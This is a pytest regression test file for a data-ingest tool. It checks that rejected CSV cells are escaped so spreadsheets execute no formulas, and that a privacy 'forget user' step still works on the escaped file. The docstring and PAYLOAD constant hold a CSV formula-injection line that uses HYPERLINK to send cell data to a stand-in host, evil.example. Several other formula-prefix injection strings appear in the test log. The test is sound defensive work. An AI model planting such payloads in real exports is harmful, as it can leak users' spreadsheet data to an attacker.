"""The reject file (`ingest --skip-invalid`) runs no formula when opened in a spreadsheet.

Regression: a rejected cell such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` was
written as it came, and a spreadsheet opening ``WORKSPACE/rejected/rejected-*.csv`` ran it.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from whyrec.tools.ingest.mapping import SourceMapping
from whyrec.tools.ingest.pipeline import ingest
from whyrec.tools.ingest.rejects import FORMULA_STARTS, unescape_cells
from whyrec.tools.privacy import forget_user
from whyrec.tools.workspace import Workspace

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MAPPING = SourceMapping(columns={"user_id": "user", "item_id": "item", "behaviour": "event", "timestamp": "ts"},
                        timestamp_unit="s")


def _bad_log(tmp_path: Path) -> Path:
    quoted = '"' + PAYLOAD.replace('"', '""') + '"'
    log = tmp_path / "bad.csv"
    log.write_text("user,item,event,ts\n"
                   "alice,i1,view,1700000000\n"
                   f"{quoted},i2,view,1700000001\n"     # a bad user id: value, user_id
                   "bob,i3,@SUM(1+1),1700000002\n"      # a bad behaviour: value
                   "bob,i4,view,-2+3\n"                 # a bad timestamp: value
                   "+cmd,i5,view,1700000003\n"          # a bad user id: value, user_id and the raw row
                   "bob,i6,\"\t=1+1\",1700000004\n"     # a tab first
                   "bob,i7,view,1700000005\n"           # bob's one good row
                   "'=x,i8,view,1700000006\n",          # a quote before a formula: kept apart
                   encoding="utf-8", newline="")
    return log


def test_reject_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path: Path) -> None:
    workspace = Workspace.create(tmp_path / "ws")
    result = ingest(workspace, _bad_log(tmp_path), MAPPING, skip_invalid=True)
    assert result.rows_added == 2 and result.rows_rejected == 6 and result.rejected_file

    with open(result.rejected_file, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["file", "line", "column", "value", "reason", "user_id", "raw"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + PAYLOAD in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells and "'+cmd" in cells
    assert "'+cmd,i5,view,1700000003" in cells  # the row as written, escaped as a whole
    assert "''=x" in cells                       # the quote that was there is kept, not eaten

    # Nothing is lost: the cells as read from the log come back unescaped...
    rejects = unescape_cells(pd.read_csv(result.rejected_file, dtype=str, keep_default_na=False))
    assert PAYLOAD in set(rejects["value"]) and "+cmd" in set(rejects["user_id"])
    assert "'=x" in set(rejects["value"])
    # ...and the ingest report (text and JSON) shows values as they were.
    assert PAYLOAD in {issue.value for issue in result.reports[0].first_issues}


def test_forget_still_finds_a_user_in_an_escaped_reject_file(tmp_path: Path) -> None:
    workspace = Workspace.create(tmp_path / "ws")
    result = ingest(workspace, _bad_log(tmp_path), MAPPING, skip_invalid=True)
    assert forget_user(workspace, "bob").reject_rows_removed == 3
    left = Path(result.rejected_file).read_text(encoding="utf-8")
    assert "bob" not in left and "'+cmd" in left
